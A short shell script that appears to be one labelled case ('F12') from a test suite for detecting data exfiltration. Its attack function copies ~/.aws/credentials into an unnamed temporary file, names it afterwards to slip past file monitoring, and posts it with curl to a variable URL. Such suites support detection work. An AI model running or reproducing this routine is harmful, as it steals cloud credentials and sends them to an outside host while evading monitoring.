# SPDX-License-Identifier: Apache-2.0
TITLE="written to an unnamed file, which then gets a name"
ROW="F12"
attack() {
	python3 - <<-'END'
	import os
	fd = os.open('.', os.O_TMPFILE | os.O_RDWR, 0o600)
	os.write(fd, open(os.path.expanduser('~/.aws/credentials'), 'rb').read())
	os.link('/proc/self/fd/%d' % fd, 'named', follow_symlinks=True)
	END
	sleep 0.3
	curl -s -m 5 --data-binary @named "$URL/"
}
